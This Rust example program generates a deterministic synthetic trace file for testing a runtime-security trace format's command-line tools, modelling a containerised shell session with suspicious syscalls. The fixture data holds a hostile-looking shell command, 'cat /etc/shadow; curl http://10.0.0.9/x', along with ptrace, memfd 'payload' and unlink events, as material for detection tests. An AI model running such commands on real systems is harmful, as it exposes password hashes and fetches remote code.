//! Writes `testdata/sample.rts`: a small synthetic trace with varied event kinds, for CLI tests
//! (until recorded traces exist for everything). Deterministic: the same bytes every run but
//! for the footer's end time.
//!
//! `cargo run -p rtsec-format --example gen_sample -- testdata/sample.rts`

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;

use rtsec_format::record::fd_flags;
use rtsec_format::{
    AT_FDCWD, Args, CaptureSettings, ContainerInfo, FdInfo, FdType, Header, IdGen, Kind, L4Proto,
    LocalSide, NewEvent, PathArg, ProcessInfo, SockAddr, TraceWriter, UserInfo, WriterOptions,
    synth,
};

const T0: u64 = 1_764_000_000_000_000_000;

fn main() {
    let out = std::env::args()
        .nth(1)
        .unwrap_or_else(|| "testdata/sample.rts".into());
    let header = Header {
        created_by: "rtsec-format gen_sample".into(),
        source: "synthetic".into(),
        hostname: "sample-host".into(),
        kernel_release: "6.18.0-sample".into(),
        boot_time_ns: T0 - 3_600_000_000_000,
        start_ns: T0,
        settings: CaptureSettings {
            syscalls: vec!["execve".into(), "openat".into(), "connect".into()],
            buffer_bytes: 8 << 20,
            ..Default::default()
        },
        ..Default::default()
    };
    let opts = WriterOptions {
        block_bytes: 32 << 10,
        overwrite: true,
        ..Default::default()
    };
    let mut w = TraceWriter::create(&out, &header, opts).expect("create sample");
    // Apart from the ids the synthetic part below uses.
    let ids = IdGen::starting_at(1 << 40);
    let root = Arc::new(UserInfo {
        id: ids.next(),
        name: b"root".to_vec(),
        home: b"/root".to_vec(),
        shell: b"/bin/bash".to_vec(),
        ..Default::default()
    });
    let container = Arc::new(ContainerInfo {
        id: ids.next(),
        container_id: b"3f9a0c1d2e4b".to_vec(),
        full_id: b"3f9a0c1d2e4b5a6978877665544332211aabbccddeeff0011223344556677889".to_vec(),
        runtime: b"docker".to_vec(),
        name: Some(b"web".to_vec()),
        image: Some(b"docker.io/library/nginx:1.27".to_vec()),
        image_repository: Some(b"docker.io/library/nginx".to_vec()),
        image_tag: Some(b"1.27".to_vec()),
        privileged: Some(false),
        ..Default::default()
    });
    let shim = Arc::new(ProcessInfo {
        id: ids.next(),
        pid: 4100,
        ppid: 1,
        vpid: 4100,
        comm: b"containerd-shim".to_vec(),
        exe: b"/usr/bin/containerd-shim-runc-v2".to_vec(),
        exepath: b"/usr/bin/containerd-shim-runc-v2".to_vec(),
        cwd: b"/".to_vec(),
        user: Some(root.clone()),
        loginuid: u32::MAX,
        ..Default::default()
    });
    let sh = Arc::new(ProcessInfo {
        id: ids.next(),
        pid: 4242,
        ppid: 4100,
        parent: Some(shim.clone()),
        vpid: 7,
        sid: 4242,
        comm: b"sh".to_vec(),
        exe: b"sh".to_vec(),
        exepath: b"/bin/dash".to_vec(),
        args: vec![
            b"-c".to_vec(),
            b"cat /etc/shadow; curl http://10.0.0.9/x".to_vec(),
        ],
        cwd: b"/srv".to_vec(),
        tty: 34816,
        container: Some(container.clone()),
        user: Some(root.clone()),
        loginuid: u32::MAX,
        cap_effective: 0xa80425fb,
        start_ts: T0,
        exec_ts: T0,
        ..Default::default()
    });
    let cat = Arc::new(ProcessInfo {
        id: ids.next(),
        pid: 4243,
        ppid: 4242,
        parent: Some(sh.clone()),
        vpid: 8,
        comm: b"cat".to_vec(),
        exe: b"cat".to_vec(),
        exepath: b"/usr/bin/cat".to_vec(),
        args: vec![b"/etc/shadow".to_vec()],
        start_ts: T0 + 1_000_000,
        exec_ts: T0 + 1_100_000,
        ..(*sh).clone()
    });
    let shadow = Arc::new(FdInfo {
        id: ids.next(),
        num: 3,
        ty: FdType::File,
        name: b"/etc/shadow".to_vec(),
        nameraw: b"/etc/shadow".to_vec(),
        ..Default::default()
    });
    let sock = Arc::new(FdInfo {
        id: ids.next(),
        num: 4,
        ty: FdType::Ipv4,
        name: b"172.17.0.2:40112->10.0.0.9:80".to_vec(),
        l4proto: L4Proto::Tcp,
        client: Some(SocketAddr::new(
            IpAddr::V4(Ipv4Addr::new(172, 17, 0, 2)),
            40112,
        )),
        server: Some(SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 9)), 80)),
        local: LocalSide::Client,
        flags: fd_flags::CONNECTED,
        ..Default::default()
    });
    let mut ts = T0;
    let mut push = |proc: &Arc<ProcessInfo>, kind, res, fd: Option<&Arc<FdInfo>>, args| {
        ts += 250_000;
        w.push(&NewEvent {
            ts,
            tid: proc.pid,
            cpu: 1,
            kind,
            flags: 0,
            res,
            proc: Some(proc),
            fd,
            args,
        })
        .expect("push");
    };
    push(
        &sh,
        Kind::Execve,
        0,
        None,
        Args::Exec {
            dirfd: AT_FDCWD,
            filename: PathArg::same(b"/bin/sh"),
            flags: 0,
        },
    );
    push(
        &sh,
        Kind::Clone,
        4243,
        None,
        Args::Clone { flags: 0x1200011 },
    );
    push(
        &cat,
        Kind::Execve,
        0,
        None,
        Args::Exec {
            dirfd: AT_FDCWD,
            filename: PathArg::same(b"/usr/bin/cat"),
            flags: 0,
        },
    );
    push(
        &cat,
        Kind::Openat,
        3,
        Some(&shadow),
        Args::Open {
            dirfd: AT_FDCWD,
            path: PathArg::same(b"/etc/shadow"),
            flags: 0o2000000,
            mode: 0,
            resolve: 0,
            dev: 0x803,
            ino: 131_090,
        },
    );
    push(&cat, Kind::Close, 0, Some(&shadow), Args::Fd { fd: 3 });
    push(
        &cat,
        Kind::ProcExit,
        0,
        None,
        Args::Exit {
            code: 0,
            sig: 0,
            core: false,
        },
    );
    push(
        &sh,
        Kind::Socket,
        4,
        None,
        Args::Socket {
            domain: 2,
            ty: 1,
            proto: 0,
        },
    );
    push(
        &sh,
        Kind::Connect,
        0,
        Some(&sock),
        Args::Connect {
            fd: 4,
            addr: SockAddr::Inet {
                ip: IpAddr::V4(Ipv4Addr::new(10, 0, 0, 9)),
                port: 80,
            },
        },
    );
    push(
        &sh,
        Kind::Ptrace,
        -1,
        None,
        Args::Ptrace {
            request: 16,
            pid: 1,
            addr: 0,
            data: 0,
        },
    );
    push(
        &sh,
        Kind::MemfdCreate,
        5,
        None,
        Args::MemfdCreate {
            name: b"payload",
            flags: 1,
        },
    );
    push(
        &sh,
        Kind::Unlinkat,
        -2,
        None,
        Args::Path {
            dirfd: AT_FDCWD,
            path: PathArg {
                raw: b"tmp/x",
                resolved: b"/srv/tmp/x",
            },
            flags: 0,
            mode: 0,
        },
    );
    push(
        &sh,
        Kind::Generic,
        0,
        None,
        Args::Generic {
            nr: 39,
            args: [0; 6],
        },
    );
    synth::generate(2000, 11, |ev| {
        let mut ev = ev.clone();
        ev.ts = ev.ts - 1_764_000_000_000_000_000 + T0 + 10_000_000;
        w.push(&ev).expect("push");
    });
    let (summary, _) = w.finish().expect("finish");
    eprintln!(
        "{out}: {} events in {} blocks, {} bytes",
        summary.events, summary.blocks, summary.bytes
    );
}
